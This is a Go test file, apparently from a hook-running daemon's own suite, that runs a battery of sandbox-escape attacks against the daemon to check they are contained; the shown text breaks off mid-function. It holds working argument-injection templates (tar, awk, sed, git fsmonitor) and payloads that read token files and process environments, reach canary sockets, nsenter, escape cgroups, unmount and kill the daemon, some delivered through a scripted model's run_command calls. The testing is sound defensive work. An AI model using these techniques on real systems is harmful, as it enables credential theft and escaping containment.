package main

// TestContainmentBattery is issue 27's attack battery against the real
// binary: shell templates that turn data into code (words re-split by
// read or xargs into tar options and by $(…|tr) into git's, programs fed
// to awk and sed on stdin, data written to a file and then run, a jq
// program from data, a bare git repository written as plain files) and
// author-written code that misbehaves on purpose, each carrying every
// payload (write outside the workdir, directly, through a symbolic or a
// hard link, or by removing; write hookd's state directory; connect over
// TCP and UDP; read hookd's token, settings and database, its API socket,
// its environment, another process's environment holding the secret and,
// through /proc/PID/root, the token another mount namespace shows; read the hook's secret from a step that does not name
// it; leave a setsid'd, double-forked or cgroup-escaped process behind;
// kill hookd; nsenter; umount), through every trigger kind (an event, a
// watched folder's file names, a manual fire with an event, the model's
// run_command). Each attack is first run as plain `sh -c` with the same
// data, where it must hit its canary; through hookd it must be refused
// when the hook loads, or run and hit nothing. The canaries live outside
// the workdir and outside /tmp (a directory in the package's directory),
// and every stored form is searched: the run record, the database's
// bytes, hookd's log. Every template carries every payload under
// HOOKD_TEST_LONG=1 (as CI runs it); without it, a covering set
// (batteryPairs): each template and each payload through each trigger
// kind at least once.

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"sort"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/hookd/hookd/api"
	"github.com/hookd/hookd/engine"
	"github.com/hookd/hookd/internal/testtool"
	"github.com/hookd/hookd/llm/llmtest"
)

// The values the attacks go for: letters a-y only, so that `tr a-y b-z`
// (the shift the payloads apply, which redaction cannot know) is +1 on
// each, as jq's explode|map(.+1)|implode is.
const (
	batteryToken  = "hkdtokenqpwoeirutyalskdjfhgmxncbv"
	batterySecret = "secretvalueqwertyuiopasdfghj"
	batteryMarker = "settingsmarkerlkjhgfdsapoiuytrewq"
	sqliteShifted = "SQLITE FORMAT 3" // what the db payload prints of the database's header
)

func shifted(s string) string {
	return strings.Map(func(r rune) rune {
		if r >= 'a' && r <= 'y' {
			return r + 1
		}
		return r
	}, s)
}

// A payload is what the attack's code does once it runs: one line of sh.
type attackPayload struct {
	name    string
	network bool // meaningful only where the hook has no network (not a manual fire, whose network is open by default)
	sh      func(a *attack) string
}

var payloads = []attackPayload{
	{name: "write", sh: func(a *attack) string { return "echo " + a.id + " > " + a.b.canaryDir + "/" + a.id }},
	{name: "tcp", network: true, sh: func(a *attack) string {
		return fmt.Sprintf(`curl -s -m 10 http://127.0.0.1:%d/%s`, a.b.tcp.port(), a.id)
	}},
	{name: "udp", network: true, sh: func(a *attack) string {
		return fmt.Sprintf(`bash -c "echo %s > /dev/udp/127.0.0.1/%d"`, a.id, a.b.udp.port())
	}},
	{name: "token", sh: func(a *attack) string { return "tr a-y b-z < " + a.b.e.path("secrets/token") + " >&2" }},
	{name: "settings", sh: func(a *attack) string { return "tr a-y b-z < " + a.b.e.path("hookd.yaml") + " >&2" }},
	{name: "database", sh: func(a *attack) string { return "head -c 15 " + a.b.e.path(".hookd/hookd.db") + " | tr a-z A-Z >&2" }},
	{name: "secret", sh: func(a *attack) string { return `echo "$BATTERY_SECRET" | tr a-y b-z >&2` }},
	{name: "setsid", sh: func(a *attack) string {
		return fmt.Sprintf("setsid sleep %d </dev/null >/dev/null 2>&1 &", a.sleep)
	}},
	{name: "doublefork", sh: func(a *attack) string {
		return fmt.Sprintf(`(sh -c "sleep %d </dev/null >/dev/null 2>&1 &" &)`, a.sleep)
	}},
	{name: "kill-hookd", sh: func(a *attack) string { return "kill -9 $(cat " + a.pidFile() + ")" }},
	{name: "nsenter", network: true, sh: func(a *attack) string {
		return fmt.Sprintf(`nsenter -t %d -n -m -- bash -c "echo %s > /dev/tcp/127.0.0.1/%d; tr a-y b-z < %s >&2"`,
			os.Getpid(), a.id, a.b.tcp.port(), a.b.e.path("secrets/token"))
	}},
	{name: "state-write", sh: func(a *attack) string { return "echo " + a.id + " > " + a.b.e.path(".hookd/pwn-"+a.id) }},
	{name: "api-socket", sh: func(a *attack) string {
		return "curl -s --unix-socket " + a.b.e.path(".hookd/hookd.sock") + " http://hookd/v1/status | tr a-y b-z >&2"
	}},
	{name: "hardlink", sh: func(a *attack) string { return "ln " + a.target() + " h && echo pwned >> h" }},
	{name: "symlink", sh: func(a *attack) string { return "ln -s " + a.b.canaryDir + "/" + a.id + " sl && echo " + a.id + " > sl" }},
	{name: "remove", sh: func(a *attack) string { return "rm -f " + a.target() }},
	{name: "hookd-environ", sh: func(a *attack) string { return "tr a-y b-z < /proc/$(cat " + a.pidFile() + ")/environ >&2" }},
	{name: "holder-environ", sh: func(a *attack) string { return "tr a-y b-z < /proc/" + strconv.Itoa(a.b.holder) + "/environ >&2" }},
	{name: "proc-root", sh: func(a *attack) string {
		return fmt.Sprintf("tr a-y b-z < /proc/%d/root%s >&2", os.Getpid(), a.b.e.path("secrets/token"))
	}},
	{name: "cgroup-escape", sh: func(a *attack) string {
		return fmt.Sprintf("for d in /sys/fs/cgroup /sys/fs/cgroup/unified; do echo $$ > $d/cgroup.procs; done 2>/dev/null; setsid sleep %d </dev/null >/dev/null 2>&1 &", a.sleep)
	}},
	{name: "umount", sh: func(a *attack) string {
		return "umount " + a.b.e.path("secrets/token") + "; umount -l " + a.b.e.path(".hookd") + "; tr a-y b-z < " + a.b.e.path("secrets/token") + " >&2"
	}},
}

// A template is how data, or the author's code, reaches execution. Its
// command is a shell step's, with @Q@ where the placeholder stands
// unquoted and @H@ where it stands in a here-document; data turns a
// payload's sh into the data that makes the command run it ("" and false:
// this template cannot carry it).
type attackTemplate struct {
	name     string
	triggers string // the trigger kinds it applies to: e(vent) w(atch) f(ire) m(odel)
	command  string
	data     func(sh string, watch bool) (string, bool)
	only     string // the one payload it carries, when it carries one
}

var attackTemplates = []attackTemplate{
	{name: "author code", triggers: "ewf", command: "@SH@"},
	{name: "read|tar option", triggers: "ew", command: `printf '%s\n' @Q@ | while read -r f; do tar cf out.tar "$f" index; done`,
		data: func(sh string, watch bool) (string, bool) {
			return "--use-compress-program=sh -c '" + slashFree(sh, watch) + "'", true
		}},
	{name: "xargs tar option", triggers: "ew", command: `printf '%s\n' @Q@ | xargs tar cf out.tar`,
		data: func(sh string, watch bool) (string, bool) {
			return "a\n" + xargsWord("--use-compress-program=sh -c '"+slashFree(sh, watch)+"'"), true
		}},
	{name: "$(…|tr) git option", triggers: "e", only: "write", command: `git diff --no-index $(printf '%s' @Q@ | tr ',' ' ')`},
	{name: "awk -f -", triggers: "ew", command: `printf '%s' @Q@ | awk -f -`,
		data: func(sh string, watch bool) (string, bool) {
			return `BEGIN{system("` + awkString(slashFree(sh, watch)) + `")}`, true
		}},
	{name: "awk -f /dev/stdin", triggers: "e", command: `printf '%s' @Q@ | awk -f /dev/stdin`,
		data: func(sh string, _ bool) (string, bool) { return `BEGIN{system("` + awkString(sh) + `")}`, true }},
	{name: "sed -f -", triggers: "e", command: `printf '%s\n' @Q@ | sed -n -f - /etc/passwd`,
		data: func(sh string, _ bool) (string, bool) { return "1e " + sh, true }},
	{name: "cat > job.sh; sh job.sh", triggers: "ef", command: "cat > job.sh <<EOF\n@H@\nEOF\nsh job.sh",
		data: func(sh string, _ bool) (string, bool) { return sh, true }},
	{name: ". ./f", triggers: "ew", command: "printf '%s\\n' @Q@ > f\n. ./f",
		data: func(sh string, watch bool) (string, bool) { return slashFree(sh, watch), true }},
	{name: "python3 f.py", triggers: "e", command: "printf '%s\\n' @Q@ > f.py\npython3 f.py",
		data: func(sh string, _ bool) (string, bool) { return "import os; os.system(" + strconv.Quote(sh) + ")", true }},
	{name: "jq -n data", triggers: "e", only: "secret", command: `jq -n @Q@`},
	{name: "bare repo git status", triggers: "efm",
		command: "mkdir -p repo/refs/heads repo/objects/info && echo 'ref: refs/heads/main' > repo/HEAD && : > repo/objects/info/alternates && : > repo/refs/heads/x\n" +
			"printf '%s\\n' @Q@ > repo/config\ncd repo && git status",
		data: func(sh string, _ bool) (string, bool) { return bareConfig(sh), true }},
	{name: "run_command sh -c", triggers: "m"},
}

// slashFree is sh as a file name may hold it (watch: no '/'), and
// without quotes of either kind, so that it fits in either: run through
// printf, with every '/', quote, '$', '\\' and '`' written in octal.
func slashFree(sh string, watch bool) string {
	if !watch {
		return sh
	}
	r := strings.NewReplacer(`\`, `\134`, `%`, `%%`, `/`, `\057`, `"`, `\042`, `'`, `\047`, `$`, `\044`, "`", `\140`)
	return `eval "$(printf "` + r.Replace(sh) + `")"`
}

// awkString is s as the body of an awk string literal.
func awkString(s string) string { return strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(s) }

// xargsWord is s as one word xargs reads.
func xargsWord(s string) string {
	var b strings.Builder
	for _, r := range s {
		if strings.ContainsRune(" \t\"'\\", r) {
			b.WriteByte('\\')
		}
		b.WriteRune(r)
	}
	return b.String()
}

// bareConfig is a bare repository's config whose work tree is itself and
// whose fsmonitor runs sh.
func bareConfig(sh string) string {
	return "[core]\n\trepositoryformatversion = 0\n\tworktree = .\n\tfsmonitor = \"" + awkString(sh) + "\\nfalse\"\n"
}

// workFiles are in each attack's workdir: what its template archives or
// compares.
var workFiles = map[string]string{"index": "an index\n", "a": "one\n", "b": "two\n"}

// An attack is one template carrying one payload through one trigger.
type attack struct {
	b       *battery
	id      string // the hook's name too
	tpl     *attackTemplate
	pl      *attackPayload
	sleep   int    // the seconds of its sleeps: a number no other process sleeps
	data    string // the placeholder's value ("" for author code)
	files   []string
	sh      string // the payload's sh, with the marker that says it ran
	command string // the shell step's command as hookd gets it

	refused string // why the hook did not load
	runID   string
	record  string // `hookd run ID --json`
	outcome string
	detail  string
}

// ranMarker is what the attack prints once its code runs, found in no
// data (which holds it in lower case).
func ranMarker(a *attack) string { return strings.ToUpper("ran-" + a.id) }

func (a *attack) pidFile() string { return filepath.Join(a.b.canaryDir, a.id+".pid") }

// target is an existing file outside the workdir the attack goes for.
func (a *attack) target() string { return filepath.Join(a.b.canaryDir, a.id+".target") }

const targetContent = "original\n"

// A battery is one trigger kind's attacks in one hookd installation, with
// canaries of its own.
type battery struct {
	t         *testing.T
	trigger   string
	e         *env
	d         *served
	canaryDir string
	tcp       *canary
	udp       *udpCanary
	attacks   []*attack
	models    []*llmtest.Server
	// holder stands for another hook's step that names the secret: a
	// process of the same user, dumpable, with the secret in its
	// environment, outside every sandbox.
	holder int
}

var sleepSeq struct {
	sync.Mutex
	n int
}

func nextSleep() int {
	sleepSeq.Lock()
	defer sleepSeq.Unlock()
	sleepSeq.n++
	return 7_300_000 + sleepSeq.n + 1000*(os.Getpid()%1000)
}

func TestContainmentBattery(t *testing.T) {
	t.Parallel() // beside the other tests, not before them: its attacks wait mostly
	for _, p := range []string{"bash", "curl", "git", "jq", "tar", "python3", "setsid", "nsenter", "unshare", "xargs"} {
		testtool.Need(t, p)
	}
	if os.Geteuid() != 0 {
		// The payloads' live runs nsenter and mount as root; without root
		// hookd's containment is another (seccomp, Landlock holes).
		if os.Getenv(testtool.RequireEnv) == "1" {
			t.Fatalf("the containment battery must run as root where %s=1", testtool.RequireEnv)
		}
		t.Skip("the containment battery runs as root (its live runs nsenter and mount)")
	}
	root, err := os.MkdirTemp(".", "battery-canary-")
	if err != nil {
		t.Fatal(err)
	}
	if root, err = filepath.Abs(root); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(root) })

	var mu sync.Mutex
	var all []*attack
	t.Run("trigger", func(t *testing.T) {
		for _, trig := range []string{"event", "watch", "fire", "model"} {
			t.Run(trig, func(t *testing.T) {
				b := newBattery(t, trig, filepath.Join(root, trig))
				defer func() { // the table shows them when the battery failed too
					mu.Lock()
					all = append(all, b.attacks...)
					mu.Unlock()
				}()
				b.run()
			})
		}
	})

	counts, notRun := map[string]int{}, 0
	var table strings.Builder
	fmt.Fprintf(&table, "%-26s %-11s %-6s %s\n", "template", "payload", "trigger", "outcome")
	sort.SliceStable(all, func(i, j int) bool { return all[i].id < all[j].id })
	for _, a := range all {
		if a.outcome == "" {
			a.outcome = "not run"
		}
		counts[a.outcome]++
		if a.detail == " (did not run)" {
			notRun++
		}
		fmt.Fprintf(&table, "%-26s %-11s %-6s %s%s\n", a.tpl.name, a.pl.name, a.b.trigger, a.outcome, a.detail)
	}
	t.Logf("containment battery:\n%s", table.String())
	t.Logf("%d attacks: %d refused at load, %d contained (%d of them never ran: the program refused the data, as logged above), %d escaped",
		len(all), counts["refused at load"], counts["contained"], notRun, counts["ESCAPED"])
	if len(all) == 0 && !t.Failed() {
		t.Fatal("no attack ran")
	}
}

func newBattery(t *testing.T, trigger, canaryDir string) *battery {
	if err := os.MkdirAll(canaryDir, 0o755); err != nil {
		t.Fatal(err)
	}
	b := &battery{t: t, trigger: trigger, canaryDir: canaryDir, tcp: newCanary(t), udp: newUDPCanary(t)}
	b.e = newEnv(t, "listen: 127.0.0.1:0\ntoken_file: secrets/token\nmax_concurrent: 200\n# "+batteryMarker+"\n", nil)
	b.e.process = true // the attacks aim at hookd's own process too
	// Its commands (status, validate, emit, fire, runs, run) talk to the
	// daemon or read the store: they run in this process (about 110
	// hookd processes of ~60 ms of CPU each in a default run), which
	// names the hook files validate refuses as the binary does
	// ("hooks.d/ID.yaml:", what refusals matches) and reads e.environ as
	// their environment.
	b.e.cmdsInProcess = true
	b.e.badHooksOK = true
	// The hooks' cache directories go with the canaries, not into HOME.
	b.e.environ = []string{"BATTERY_SECRET=" + batterySecret, "XDG_CACHE_HOME=" + filepath.Join(canaryDir, "cache")}
	if err := os.Mkdir(b.e.path("secrets"), 0o700); err != nil {
		t.Fatal(err)
	}
	b.e.write("secrets/token", batteryToken+"\n")
	holder := exec.Command("sleep", "300")
	holder.Env = append(os.Environ(), "BATTERY_SECRET="+batterySecret)
	if err := holder.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { holder.Process.Kill(); holder.Wait() })
	b.holder = holder.Process.Pid

	n := 0
	tplDone, plDone := map[*attackTemplate]bool{}, map[*attackPayload]bool{}
	for _, c := range batteryPairs(trigger) {
		if !testtool.Long() && tplDone[c.tpl] && plDone[c.pl] {
			continue
		}
		n++
		a := &attack{b: b, id: fmt.Sprintf("%s%03d", trigger[:1], n), tpl: c.tpl, pl: c.pl, sleep: nextSleep()}
		a.sh = "echo ran-" + a.id + " | tr a-z A-Z >&2; " + c.pl.sh(a)
		if !b.prepare(a) {
			continue
		}
		tplDone[c.tpl], plDone[c.pl] = true, true
		b.attacks = append(b.attacks, a)
	}
	return b
}

// batteryPair is one template that can carry one payload through a
// trigger.
type batteryPair struct {
	tpl *attackTemplate
	pl  *attackPayload
}

// batteryPairs are the attacks of a trigger kind: under HOOKD_TEST_LONG
// every template with every payload it can carry, template by template
// (about 430 attacks over the four kinds); else the same pairs ordered by
// diagonals (template i with payload i, i+1, ...), of which newBattery
// keeps each pair that carries a template or a payload no attack of the
// kind has carried yet: every template and every payload still goes
// through every trigger kind, in about a fifth of the attacks.
func batteryPairs(trigger string) []batteryPair {
	var pairs []batteryPair
	var key [][2]int
	i := 0
	for ti := range attackTemplates {
		tpl := &attackTemplates[ti]
		if !strings.Contains(tpl.triggers, trigger[:1]) {
			continue
		}
		for j := range payloads {
			pl := &payloads[j]
			if tpl.only != "" && pl.name != tpl.only || pl.network && trigger == "fire" {
				continue
			}
			pairs = append(pairs, batteryPair{tpl, pl})
			key = append(key, [2]int{((j-i)%len(payloads) + len(payloads)) % len(payloads), i})
		}
		i++
	}
	if !testtool.Long() {
		idx := make([]int, len(pairs))
		for k := range idx {
			idx[k] = k
		}
		sort.SliceStable(idx, func(a, b int) bool {
			ka, kb := key[idx[a]], key[idx[b]]
			return ka[0] < kb[0] || ka[0] == kb[0] && ka[1] < kb[1]
		})
		sorted := make([]batteryPair, len(pairs))
		for k, x := range idx {
			sorted[k] = pairs[x]
		}
		pairs = sorted
	}
	return pairs
}

// prepare sets the attack's data, command and hook file.
func (b *battery) prepare(a *attack) bool {
	watch := b.trigger == "watch"
	placeholder := "{{event." + a.id + "}}"
	if watch {
		placeholder = "{{event.paths}}"
	}
	switch {
	case a.tpl.name == "$(…|tr) git option":
		a.data = "--output=" + filepath.Join(b.canaryDir, a.id) + ",a,b"
		a.sh = "" // git writes the canary itself
	case a.tpl.name == "jq -n data":
		a.data = `("ran-` + a.id + `"|ascii_upcase), ($ENV.BATTERY_SECRET|explode|map(.+1)|implode)`
		a.sh = ""
	case a.tpl.data != nil:
		d, ok := a.tpl.data(a.sh, watch)
		if !ok {
			return false
		}
		a.data = d
	}
	if watch {
		a.files = strings.Split(a.data, "\n")
		if a.data == "" {
			a.files = []string{"x"} // author code: any file fires it
		}
		for _, f := range a.files {
			if len(f) > 255 || strings.Contains(f, "/") {
				b.t.Logf("%s (%s, %s): no file name can carry it (%d bytes)", a.id, a.tpl.name, a.pl.name, len(f))
				return false
			}
		}
	}
	cmd := strings.NewReplacer("@SH@", a.sh, "@Q@", placeholder, "@H@", placeholder).Replace(a.tpl.command)
	a.command = cmd

	// A workdir of its own: the attacks run at once, and write files
	// of the same names.
	for f, body := range workFiles {
		if err := os.MkdirAll(b.e.path("w/"+a.id+"/in"), 0o755); err != nil {
			b.t.Fatal(err)
		}
		b.e.write(filepath.Join("w", a.id, f), body)
	}
	var hook strings.Builder
	hook.WriteString("workdir: w/" + a.id + "\n")
	switch b.trigger {
	case "event":
		hook.WriteString("trigger: {event: battery.go}\n")
	case "watch":
		hook.WriteString("trigger: {watch: {paths: [in], debounce: 50ms}}\n")
	case "model":
		m := b.model(a)
		b.models = append(b.models, m)
		hook.WriteString("llm: {model: m, base_url: " + m.BaseURL() + "}\nprompt: go\ntools: [write_file, run_command]\nwrite_roots: [repo]\n")
	}
	hook.WriteString("secrets: [BATTERY_SECRET]\nsteps:\n  - name: named\n    type: shell\n    command: 'true'\n    secrets: [BATTERY_SECRET]\n")
	if b.trigger != "model" {
		q, _ := json.Marshal(cmd)
		fmt.Fprintf(&hook, "  - name: attack\n    type: shell\n    allow_failure: true\n    command: %s\n", q)
	}
	b.e.write("hooks.d/"+a.id+".yaml", hook.String())
	return true
}

// model is the scripted model of a model attack: run_command runs the
// payload, or write_file writes a bare repository whose fsmonitor is the
// payload and run_command runs git status in it.
func (b *battery) model(a *attack) *llmtest.Server {
	call := func(id, name string, args any) llmtest.ToolCall {
		j, err := json.Marshal(args)
		if err != nil {
			b.t.Fatal(err)
		}
		return llmtest.ToolCall{ID: id, Name: name, Args: string(j)}
	}
	if a.tpl.name == "run_command sh -c" {
		return llmtest.New(llmtest.Calls(call("attack", "run_command", map[string]any{"argv": []string{"sh", "-c", a.sh}})), llmtest.Answer("done"))
	}
	var writes []llmtest.ToolCall
	for _, f := range bareFiles(a.sh) {
		writes = append(writes, call("w"+strconv.Itoa(len(writes)), "write_file", map[string]any{"path": "repo/" + f[0], "content": f[1], "create_dirs": true}))
	}
	return llmtest.New(llmtest.Calls(writes...),
		llmtest.Calls(call("attack", "run_command", map[string]any{"argv": []string{"git", "status"}, "dir": "repo"})),
		llmtest.Answer("done"))
}

// bareFiles are the files of the bare repository hole: path, content.
func bareFiles(sh string) [][2]string {
	return [][2]string{{"HEAD", "ref: refs/heads/main\n"}, {"objects/info/alternates", ""}, {"refs/heads/x", ""}, {"config", bareConfig(sh)}}
}

func (b *battery) run() {
	t := b.t
	defer func() {
		for _, m := range b.models {
			m.Close()
		}
	}()
	b.d = b.e.serve()
	var rep api.StatusReport
	// status exits 1: the attacks the checker refuses are hook files
	// that do not load, which it lists.
	if err := json.Unmarshal([]byte(b.e.run("status", "--json").stdout), &rep); err != nil {
		t.Fatal(err)
	}
	if rep.Sandbox == nil || !rep.Sandbox.Contained {
		msg := fmt.Sprintf("hookd cannot contain processes here: %+v", rep.Sandbox)
		if os.Getenv(testtool.RequireEnv) == "1" {
			t.Fatal(msg)
		}
		t.Skip(msg)
	}
	b.refusals()

	// Live: each attack, without hookd, hits its canary.
	b.liveAll()
	if t.Failed() {
		return
	}

	// Through hookd.
	for _, a := range b.attacks {
		if err := os.WriteFile(a.pidFile(), []byte(strconv.Itoa(b.d.pid())), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	b.trigger1()
	tcpSeen, udpSeen := strings.Join(b.tcp.seen(t), "\n"), strings.Join(b.udp.seen(t), "\n")
	alive := sleepersNow() // every run has ended: one scan judges them all
	for _, a := range b.attacks {
		if a.refused != "" {
			a.outcome = "refused at load"
			continue
		}
		if a.runID == "" && !b.d.exited() {
			continue // no run to judge (reported above)
		}
		hits := b.hits(a, a.record, tcpSeen, udpSeen, alive)
		if b.d.exited() {
			hits = append(hits, fmt.Sprintf("hookd exited (code %d)", b.d.code))
		}
		switch {
		case len(hits) > 0:
			a.outcome = "ESCAPED"
			a.detail = ": " + strings.Join(hits, "; ")
			t.Errorf("%s %s (%s through %s) escaped: %s\nrecord: %s", a.id, a.pl.name, a.tpl.name, b.trigger, strings.Join(hits, "; "), a.record)
		case strings.Contains(a.record, ranMarker(a)) || a.tpl.only == "write":
			a.outcome = "contained"
		default:
			// The payload never ran inside: git refused the bare
			// repository, or the program refused the data.
			a.outcome = "contained"
			a.detail = " (did not run)"
			t.Logf("%s (%s, %s) did not run: %s", a.id, a.tpl.name, a.pl.name, stepOutput(a.record))
		}
	}
	if b.d.exited() {
		t.Fatalf("hookd died during the battery:\n%s", b.d.log)
	}
	// hookd still answers (status exits 1: the refused attacks are hook
	// files that do not load).
	if r := b.e.run("status"); !strings.Contains(r.stdout, "hookd is running") {
		t.Errorf("hookd does not answer after the battery:\n%s", r)
	}

	// Every stored form: the database (and its log) and hookd's own log.
	var stored []byte
	for _, f := range []string{".hookd/hookd.db", ".hookd/hookd.db-wal"} {
		data, _ := os.ReadFile(b.e.path(f))
		stored = append(stored, data...)
	}
	stored = append(stored, b.d.log.String()...)
	for _, s := range forbidden() {
		if bytes.Contains(stored, []byte(s)) {
			t.Errorf("%s: %q is in the database or hookd's log", b.trigger, s)
		}
	}
}

// forbidden are the forms of hookd's and the hook's secrets that no
// stored record may hold.
func forbidden() []string {
	return []string{batteryToken, shifted(batteryToken), shifted(batteryMarker), sqliteShifted, shifted(`"overdue_grace"`),
		batterySecret, shifted(batterySecret), base64.StdEncoding.EncodeToString([]byte(batterySecret))}
}

// refusals records which attacks' hooks did not load, and why.
func (b *battery) refusals() {
	r := b.e.run("validate")
	for _, a := range b.attacks {
		prefix := "hooks.d/" + a.id + ".yaml:"
		for _, line := range strings.Split(r.stdout+r.stderr, "\n") {
			if strings.HasPrefix(line, prefix) {
				a.refused = line
			}
		}
		if a.refused != "" && !strings.Contains(a.refused, "steps[1].command") {
			b.t.Errorf("%s did not load for another reason than its command: %s", a.id, a.refused)
		}
	}
}

// live runs the attack with plain sh -c (or plain git status) with the
// same data, and reports whether it hit its canaries (what it hit, or
// why it did not); then it clears what it left. Safe to call for
// several attacks at once.
func (b *battery) live(a *attack) (hits []string, err error) {
	dir, err := os.MkdirTemp(b.canaryDir, "live-")
	if err != nil {
		return nil, err
	}
	defer os.RemoveAll(dir)
	for f, body := range workFiles {
		if err := os.WriteFile(filepath.Join(dir, f), []byte(body), 0o644); err != nil {
			return nil, err
		}
	}
	// The victim stands for hookd: the process the pid file names, with
	// the secret in its environment.
	victim := exec.Command("sleep", "300")
	victim.Env = append(os.Environ(), "BATTERY_SECRET="+batterySecret)
	if err := victim.Start(); err != nil {
		return nil, err
	}
	victimDone := make(chan struct{})
	go func() { victim.Wait(); close(victimDone) }()
	defer func() { victim.Process.Kill(); <-victimDone }()
	if err := os.WriteFile(a.pidFile(), []byte(strconv.Itoa(victim.Process.Pid)), 0o644); err != nil {
		return nil, err
	}

	script := strings.NewReplacer("@SH@", a.sh, "@Q@", `"${HOOKD_P1}"`, "@H@", "${HOOKD_P1}").Replace(a.tpl.command)
	env := append(os.Environ(), "HOOKD_P1="+a.data, "BATTERY_SECRET="+batterySecret,
		"GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null")
	var argv []string
	switch {
	case a.tpl.name == "run_command sh -c":
		argv = []string{"sh", "-c", a.sh}
	case b.trigger == "model":
		for _, f := range bareFiles(a.sh) {
			p := filepath.Join(dir, "repo", f[0])
			if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
				return nil, err
			}
			if err := os.WriteFile(p, []byte(f[1]), 0o644); err != nil {
				return nil, err
			}
		}
		argv = []string{"sh", "-c", "cd repo && git status"}
	default:
		argv = []string{"sh", "-c", script}
	}
	if a.pl.name == "umount" {
		// As hookd hides the token: /dev/null bound over it in a mount
		// namespace of its own, which a process with the capability
		// undoes.
		env = append(env, "LIVE_TOKEN="+b.e.path("secrets/token"), "LIVE_SCRIPT="+argv[2])
		argv = []string{"unshare", "-m", "--propagation", "private", "sh", "-c", `mount --bind /dev/null "$LIVE_TOKEN" && exec sh -c "$LIVE_SCRIPT"`}
	}
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, argv[0], argv[1:]...)
	cmd.Dir = dir
	cmd.Env = env
	cmd.WaitDelay = 5 * time.Second
	out, _ := cmd.CombinedOutput()

	if a.pl.name == "kill-hookd" {
		select {
		case <-victimDone:
			hits = append(hits, "killed")
		case <-time.After(10 * time.Second):
		}
	} else {
		hits = b.hits(a, string(out), "", "", sleepersNow())
		// A sleeper is started in the background: on a loaded machine
		// it may not be running yet when the command's output closes.
		for deadline := time.Now().Add(5 * time.Second); len(hits) == 0 && a.sleep != 0 && time.Now().Before(deadline); {
			time.Sleep(pollStep)
			hits = b.hits(a, string(out), "", "", sleepersNow())
		}
	}
	// Clear: the files it made, the sleepers.
	os.Remove(filepath.Join(b.canaryDir, a.id))
	os.Remove(b.e.path(".hookd/pwn-" + a.id))
	for _, pid := range sleepersNow()[a.sleep] {
		syscall.Kill(pid, syscall.SIGKILL)
	}
	deadline := time.Now().Add(waitLong)
	for left := sleepersNow()[a.sleep]; len(left) > 0; left = sleepersNow()[a.sleep] {
		if time.Now().After(deadline) {
			return hits, fmt.Errorf("the live run's sleepers %v do not end", left)
		}
		time.Sleep(pollStep)
	}
	if len(hits) == 0 && !a.pl.network { // the network canaries are read once all have run
		return nil, fmt.Errorf("argv %q\ndata %q\noutput:\n%s", argv, a.data, out)
	}
	return hits, nil
}

// liveAll runs every attack live, a few at once, and fails the test for
// each that hits nothing: it would show nothing through hookd either.
func (b *battery) liveAll() {
	var wg sync.WaitGroup
	sem := make(chan struct{}, 16)
	tcpFrom, udpFrom := len(b.tcp.seen(b.t)), len(b.udp.seen(b.t))
	results := make([][]string, len(b.attacks))
	for i, a := range b.attacks {
		if err := os.WriteFile(a.target(), []byte(targetContent), 0o644); err != nil {
			b.t.Fatal(err)
		}
		wg.Add(1)
		go func() {
			defer wg.Done()
			sem <- struct{}{}
			defer func() { <-sem }()
			hits, err := b.live(a)
			if err != nil {
				b.t.Errorf("live %s (%s carrying %s): %v", a.id, a.tpl.name, a.pl.name, err)
			}
			results[i] = hits
		}()
	}
	wg.Wait()
	tcp, udp := b.tcp.seen(b.t)[tcpFrom:], b.udp.seen(b.t)[udpFrom:]
	for i, a := range b.attacks {
		for _, l := range tcp {
			if strings.Contains(l, a.id) {
				results[i] = append(results[i], "connected to the TCP canary")
			}
		}
		for _, l := range udp {
			if strings.Contains(l, a.id) {
				results[i] = append(results[i], "reached the UDP canary")
			}
		}
		if a.pl.network && len(results[i]) == 0 {
			b.t.Errorf("live %s (%s carrying %s): the canary was not reached", a.id, a.tpl.name, a.pl.name)
		}
		// For hookd's run: the target as it was.
		if err := os.WriteFile(a.target(), []byte(targetContent), 0o644); err != nil {
			b.t.Fatal(err)
		}
	}
	b.tcp.reset()
	b.udp.reset()
}

// hits says which of the attack's canaries out (its output, or its run
// record), the TCP and the UDP canary's lines and the processes alive
// (sleepersNow) show hit.
func (b *battery) hits(a *attack, out, tcp, udp string, alive sleeping) []string {
	var hits []string
	if _, err := os.Lstat(filepath.Join(b.canaryDir, a.id)); err == nil {
		hits = append(hits, "wrote the canary file outside the workdir")
	}
	if b, err := os.ReadFile(a.target()); err != nil || string(b) != targetContent {
		hits = append(hits, fmt.Sprintf("changed a file outside the workdir: %q, %v", b, err))
	}
	if _, err := os.Lstat(b.e.path(".hookd/pwn-" + a.id)); err == nil {
		hits = append(hits, "wrote into hookd's state directory")
	}
	if strings.Contains(tcp, a.id) {
		hits = append(hits, "connected to the TCP canary")
	}
	if strings.Contains(udp, a.id) {
		hits = append(hits, "reached the UDP canary")
	}
	for _, s := range forbidden() {
		if strings.Contains(out, s) {
			hits = append(hits, fmt.Sprintf("output holds %q", s))
		}
	}
	if pids := alive[a.sleep]; len(pids) > 0 {
		hits = append(hits, fmt.Sprintf("left processes alive: %v", pids))
	}
	return hits
}

// trigger1 starts the battery's runs through its trigger kind and waits
// for each to end, keeping its record.
func (b *battery) trigger1() {
	t := b.t
	var loaded []*attack
	for _, a := range b.attacks {
		if a.refused == "" {
			loaded = append(loaded, a)
		}
	}
	if len(loaded) == 0 {
		return
	}
	switch b.trigger {
	case "event":
		data := map[string]string{}
		for _, a := range loaded {
			data[a.id] = a.data
		}
		j, _ := json.Marshal(data)
		r, err := b.e.exec("emit", "battery.go", "--data", string(j), "--wait")
		if err != nil || r.code != 0 {
			t.Errorf("emit: %v\n%s", err, r)
			break
		}
		runs := emitted(t, r)
		for _, a := range loaded {
			a.runID = runs[a.id]
		}
	case "watch":
		// Each file is made beside the watched folder and renamed into
		// it: one change, so one run.
		for _, a := range loaded {
			for _, f := range a.files {
				staged := filepath.Join("w", a.id, "staged")
				b.e.write(staged, "x\n")
				if err := os.Rename(b.e.path(staged), b.e.path(filepath.Join("w", a.id, "in", f))); err != nil {
